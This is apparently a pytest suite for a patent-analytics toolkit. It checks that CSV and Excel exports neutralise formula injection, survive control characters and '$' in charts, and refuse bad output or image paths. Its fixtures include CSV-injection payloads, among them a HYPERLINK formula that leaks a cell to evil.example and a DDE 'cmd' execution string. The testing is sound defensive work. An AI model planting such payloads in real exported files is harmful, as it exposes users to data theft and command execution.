"""Hostile text and hostile paths on the way out (issue 20, part 3: items 4 and 10).

Text the API sends (titles, holders, patent numbers) and text the user brings (a query file's name) is data in
every file the toolkit writes and every chart it draws: never a live formula (OWASP's CSV-injection guidance),
never a crash (control characters a workbook cannot hold, ``$`` that Matplotlib would read as mathtext). Output
paths and image paths are checked before anything is paid for. The files are real, the sandbox is real; a hang
is caught by a generous bound on a child process, never by timing.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

import pandas as pd
import pytest
from openpyxl import load_workbook
from PIL import Image

from patsnap_analytics import errors, plots
from patsnap_analytics.cli import main
from patsnap_analytics.exports import reviewer_workbook, write_frame
from patsnap_analytics.report import landscape_report

from .test_reliability_client import mounted

# what a spreadsheet reads as the start of a formula (OWASP), as the tests' own spec
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]
CONTROL = "Acme\x00 \x01Co\x0b\x1b[31m"


def hostile_frame() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame({
        "query": [f"{h}.png" for h in HOSTILE],  # the query file's name
        "rank": pd.array(range(1, n + 1), dtype="Int64"),
        "patent_id": [f"p{i}" for i in range(n)],
        "patent_pn": HOSTILE,
        "title": HOSTILE[::-1],
        "score": pd.array([-0.5, 0.9, -1.0, 0.1, 0.2, 0.3], dtype="Float64"),  # negative numbers stay numbers
        "current_assignee": HOSTILE,
        "loc": [[h, "06-01"] for h in HOSTILE],
        "country": ["US"] * n,
        "image_url": [None] * n,
    })


def formula_cells(path) -> list[tuple[str, object]]:
    """Every workbook cell a spreadsheet would evaluate, or would evaluate once edited: formulas, and text that
    reads as one without the quote prefix."""
    found = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                live = isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS) and not cell.quotePrefix
                if cell.data_type == "f" or live:
                    found.append((cell.coordinate, cell.value))
    return found


# ------------------------------------------------------------------ 4: never a live formula

def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(tmp_path):
    path = write_frame(hostile_frame(), tmp_path / "hits.csv")
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    header, body = rows[0], rows[1:]
    score = header.index("score")
    for row in body:
        for i, cell in enumerate(row):
            if i != score:
                assert not cell.startswith(FORMULA_STARTS), (header[i], cell)
    assert [float(r[score]) for r in body] == [-0.5, 0.9, -1.0, 0.1, 0.2, 0.3]
    titles = [r[header.index("title")] for r in body]
    assert titles == ["'" + h for h in HOSTILE[::-1]]  # OWASP: a leading quote, the text otherwise intact


@pytest.mark.parametrize("writer", ["write_frame", "reviewer_workbook"])
def test_workbooks_hold_text_never_formulas_and_numbers_as_numbers(tmp_path, writer):
    path = tmp_path / "hits.xlsx"
    if writer == "write_frame":
        write_frame(hostile_frame(), path)
    else:
        reviewer_workbook(hostile_frame(), path, thumbnails=False, link="https://example.test/{pn}")
    assert formula_cells(path) == []
    book = load_workbook(path)
    sheet = book["All hits"] if "All hits" in book.sheetnames else book.worksheets[0]  # past the About sheet
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    for text in HOSTILE[:4]:
        assert text in values  # shown as written
    scores = [c.value for c in next(col for col in sheet.iter_cols() if col[0].value in ("score", "Score"))[1:]]
    assert scores == [-0.5, 0.9, -1.0, 0.1, 0.2, 0.3]


def test_the_cli_out_writes_a_query_file_named_like_a_formula_as_text(env_for, tmp_path, capsys, drawing):
    query = tmp_path / "=1+2.png"
    query.write_bytes(drawing)
    for out in (tmp_path / "hits.xlsx", tmp_path / "hits.csv"):
        assert main(["search", str(query), "--limit", "3", "--out", str(out), "--no-cache"]) == 0
    assert formula_cells(tmp_path / "hits.xlsx") == []
    assert pd.read_excel(tmp_path / "hits.xlsx")["query"].tolist() == ["=1+2.png"] * 3
    assert pd.read_csv(tmp_path / "hits.csv")["query"].tolist() == ["'=1+2.png"] * 3


@pytest.fixture
def env_for(monkeypatch, sb):
    monkeypatch.setenv("PATSNAP_API_KEY", sb.api_key)
    monkeypatch.setenv("PATSNAP_BASE_URL", sb.url)
    return sb


# ------------------------------------------------------------------ 10: control characters, partial files

@pytest.mark.parametrize("writer", ["xlsx", "reviewer_workbook", "csv"])
def test_control_characters_in_any_text_are_written_not_a_crash(tmp_path, writer):
    df = hostile_frame().assign(title=CONTROL, current_assignee=CONTROL, query=f"{CONTROL}.png")
    path = tmp_path / f"hits.{'csv' if writer == 'csv' else 'xlsx'}"
    if writer == "reviewer_workbook":
        reviewer_workbook(df, path, thumbnails=False)
    else:
        write_frame(df, path)
    if writer == "csv":
        text = path.read_text(encoding="utf-8")
    else:
        book = load_workbook(path)
        text = " ".join(str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row)
        text += " ".join(book.sheetnames)
    assert "Acme\ufffd \ufffdCo\ufffd\ufffd[31m" in text and "\x00" not in text and "\x1b" not in text


def test_a_reviewer_s_stored_note_with_control_characters_or_a_formula_is_written_as_text(tmp_path):
    from patsnap_analytics.verdicts import read

    note = f"=HYPERLINK(\"http://x\",\"y\") {CONTROL}"
    df = hostile_frame().head(1).assign(query_key="sha256:" + "a" * 64, verdict="similar", relevance=1, note=note)
    path = reviewer_workbook(df, tmp_path / "review.xlsx", thumbnails=False)
    sheet = load_workbook(path)["All hits"]
    notes = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=HYP")]
    assert notes and all(c.data_type == "s" and c.quotePrefix for c in notes)
    back = read(path)
    assert back["note"].iloc[0].startswith("=HYPERLINK") and "\x00" not in back["note"].iloc[0]


def test_a_write_that_fails_leaves_the_previous_file_and_no_partial_one(tmp_path):
    folder = tmp_path / "small"
    folder.mkdir()
    with mounted(folder, "size=64k"):
        out = folder / "hits.csv"
        write_frame(hostile_frame(), out)
        before = out.read_bytes()
        big = pd.DataFrame({"title": [os.urandom(500).hex() for _ in range(200)]})  # 200 KB, even zipped ~100
        for path in (out, folder / "other.xlsx"):
            with pytest.raises(errors.PatsnapError, match=r"could not be written.*nothing was replaced"):
                write_frame(big, path)
        assert out.read_bytes() == before
        assert sorted(p.name for p in folder.iterdir()) == ["hits.csv"]  # no partial file, no temporary one


# ------------------------------------------------------------------ 10: `$` in any text drawn

MATH = "Price $^$ Co"


def math_frame() -> pd.DataFrame:
    n = 6
    return pd.DataFrame({
        "query": [f"{MATH}.png", "b$x^$.png"] * 3, "rank": [1, 2, 3] * 2, "patent_id": list("abcdef"),
        "patent_pn": ["USD1S", "CN$^$2S", "USD3S", "EU4S", "JP5S", "KR6S"],
        "score": [0.9, 0.8, 0.7, 0.6, 0.5, 0.4], "country": ["US", "CN", "US", "EU", "JP", "KR"],
        "current_assignee": [MATH, "A$_$B", MATH, "x", "y", "z"], "title": [MATH] * n,
        "application_date": pd.to_datetime(["2019-01-01", "2020-02-02"] * 3),
        "simple_legal_status": [1, 0] * 3, "simple_legal_status_label": [MATH, "Inactive"] * 3, "loc": [["06-01"], ["14-03"]] * 3,
        "image_url": ["https://img.example/1.png"] * n,
    })


def _png(url: str) -> bytes:
    buf = io.BytesIO()
    Image.new("L", (20, 20), 255).save(buf, "PNG")
    return buf.getvalue()


CHARTS = {
    "score_distribution": lambda df: plots.score_distribution(df),
    "score_vs_rank": lambda df: plots.score_vs_rank(df),
    "office_breakdown": lambda df: plots.office_breakdown(df),
    "status_breakdown": lambda df: plots.status_breakdown(df),
    "assignee_breakdown": lambda df: plots.assignee_breakdown(df, stack="simple_legal_status"),
    "filing_timeline": lambda df: plots.filing_timeline(df),
    "assignee_office_heatmap": lambda df: plots.assignee_office_heatmap(df),
    "overlap_heatmap": lambda df: plots.overlap_heatmap(df),
    "thumbnail_gallery": lambda df: plots.thumbnail_gallery(df, fetch=_png),
}


@pytest.mark.parametrize("chart", CHARTS)
def test_a_dollar_sign_in_any_text_is_drawn_as_written(chart):
    drawn = CHARTS[chart](math_frame())
    fig = drawn if hasattr(drawn, "savefig") else drawn.figure
    assert plots.figure_png(fig).startswith(b"\x89PNG")  # drawing it raised a mathtext ParseException before
    if chart in ("assignee_breakdown", "assignee_office_heatmap"):
        from matplotlib.text import Text

        assert any(t.get_text() == MATH for t in drawn.findobj(Text))  # the name itself, not an escaped form


def test_the_report_draws_a_holder_named_with_dollar_signs(tmp_path):
    path = landscape_report(math_frame(), tmp_path / "r.html", fetch=_png)
    assert "Price $^$ Co" in path.read_text(encoding="utf-8")


# ------------------------------------------------------------------ 10: paths checked before anything is paid

@pytest.mark.parametrize("out", ["afile/hits.csv", "/proc/hits.csv", "afile/deeper/hits.xlsx"])
def test_an_output_path_that_cannot_be_written_is_refused_before_any_call(env_for, drawing, tmp_path, capsys,
                                                                         monkeypatch, out):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "afile").write_text("a file, not a folder")
    query = tmp_path / "q.png"
    query.write_bytes(drawing)
    assert main(["search", str(query), "--limit", "3", "--out", out, "--no-cache"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: --out: ") and "cannot be written" in err and "Traceback" not in err  # the flag named
    assert sum(env_for.stats.values()) == 0  # not an upload, not a search: the check came first


_READ_IMAGE = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (2 * 2**30, 2 * 2**30))  # reading /dev/zero to the end must not take the machine
from patsnap_analytics.cli import main
from patsnap_analytics.images import ImageRef
try:
    ImageRef.from_any(sys.argv[1])
except Exception as exc:
    print(type(exc).__name__, exc)
sys.exit(main(["search", sys.argv[1], "--limit", "3", "--no-cache"]))
"""


@pytest.mark.parametrize("kind", ["/dev/zero", "fifo"])
def test_a_device_or_a_fifo_as_the_image_is_refused_without_reading_it(env_for, tmp_path, kind):
    path = kind
    if kind == "fifo":
        path = tmp_path / "drawing.png"
        os.mkfifo(path)
    env = {**os.environ, "PATSNAP_API_KEY": env_for.api_key, "PATSNAP_BASE_URL": env_for.url}
    done = subprocess.run([sys.executable, "-c", _READ_IMAGE, str(path)], capture_output=True, text=True, env=env,
                          timeout=240)  # a generous bound: the old code waited for a FIFO's writer for ever
    assert done.stdout.startswith("InvalidImageError") and "not a regular file" in done.stdout
    assert done.returncode == 2 and "not a regular file" in done.stderr and "Traceback" not in done.stderr
    assert sum(env_for.stats.values()) == 0
